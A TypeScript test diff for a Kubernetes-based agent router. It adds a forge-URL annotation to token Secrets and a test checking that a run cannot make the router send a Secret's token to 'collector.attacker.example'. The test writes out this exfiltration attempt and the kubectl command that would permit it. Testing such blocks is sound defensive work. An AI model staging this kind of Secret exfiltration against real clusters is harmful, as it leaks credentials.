@@ -46,8 +46,9 @@ const call = (token: string | undefined, path: string, init: { method?: string; 
     body: init.body !== undefined ? JSON.stringify(init.body) : undefined,
   });
 
-async function forgeSecret(ns: string, name: string, token = FORGE_TOKEN) {
-  await cluster.core.createNamespacedSecret({ namespace: ns, body: { apiVersion: 'v1', kind: 'Secret', metadata: { name }, data: { token: Buffer.from(token).toString('base64') } } });
+/** A forge token Secret, allowed for GitHub's API (the trackers here set no baseURL; Forgejo's fake is reached through devIssueTrackers). */
+async function forgeSecret(ns: string, name: string, token = FORGE_TOKEN, annotations: Record<string, string> = { 'agentlab.dev/forge-url': 'https://api.github.com' }) {
+  await cluster.core.createNamespacedSecret({ namespace: ns, body: { apiVersion: 'v1', kind: 'Secret', metadata: { name, annotations }, data: { token: Buffer.from(token).toString('base64') } } });
 }
 
 describe.each(['github', 'forgejo'] as const)('the github tool on the router, %s', (provider) => {
@@ -144,6 +145,25 @@ describe.each(['github', 'forgejo'] as const)('the github tool on the router, %s
     expect(limited.headers.get('retry-after')).toBe('30');
     expect(await limited.json()).toMatchObject({ error: { code: 'forge_rate_limited' } });
     expect((await call(token, `repos/${REPO}/issues/7`)).status).toBe(200);
+  });
+
+  it('sends a Secret\'s token only to a base URL its agentlab.dev/forge-url annotation names (403 forge_token_not_allowed otherwise)', async () => {
+    // Someone who may create runs points the tracker at a host of theirs and at any Secret of the namespace.
+    const other = `db-password-${provider}`;
+    await forgeSecret(ns(), other, FORGE_TOKEN, {});
+    const evil = { provider, baseURL: 'https://collector.attacker.example', repository: REPO, issue: 7 };
+    const anySecret = (await f.issueToken(ns(), `${runName}-exfil`, { 'agentlab.dev/issue-tracker': issueTrackerAnnotationValue({ ...evil, secretRef: { name: other, key: 'token' } }) })).token;
+    // The forge token Secret itself, allowed for GitHub's API only (and its token cached for it by the calls above).
+    const forgeSecretElsewhere = (await f.issueToken(ns(), `${runName}-exfil2`, { 'agentlab.dev/issue-tracker': issueTrackerAnnotationValue({ ...evil, secretRef: { name: `forge-${provider}`, key: 'token' } }) })).token;
+    await cluster.waitFor(async () => (await call(forgeSecretElsewhere, 'run')).status === 200 && (await call(anySecret, 'run')).status === 200, { what: 'router knows the runs' });
+    const before = forges[provider].requests.length;
+    const r1 = await call(anySecret, `repos/${REPO}/issues/7`);
+    expect(r1.status).toBe(403);
+    expect(await r1.json()).toMatchObject({ error: { code: 'forge_token_not_allowed', message: expect.stringContaining(`Secret ${ns()}/${other} does not name https://collector.attacker.example in its agentlab.dev/forge-url annotation, so its token is not sent there; if the Secret holds a ${provider} token meant for https://collector.attacker.example, allow it with: kubectl -n ${ns()} annotate secret ${other} --overwrite agentlab.dev/forge-url=https://collector.attacker.example`) } });
+    const r2 = await call(forgeSecretElsewhere, `repos/${REPO}/issues/7/comments`, { method: 'POST', body: { body: 'hi' } });
+    expect(r2.status).toBe(403);
+    expect(await r2.json()).toMatchObject({ error: { code: 'forge_token_not_allowed', message: expect.stringContaining(`is for https://api.github.com (annotation agentlab.dev/forge-url), not https://collector.attacker.example`) } });
+    expect(forges[provider].requests.length).toBe(before);
   });
 
   it(`lets a run post at most ${MAX_COMMENTS_PER_RUN} comments, then answers 429`, async () => {
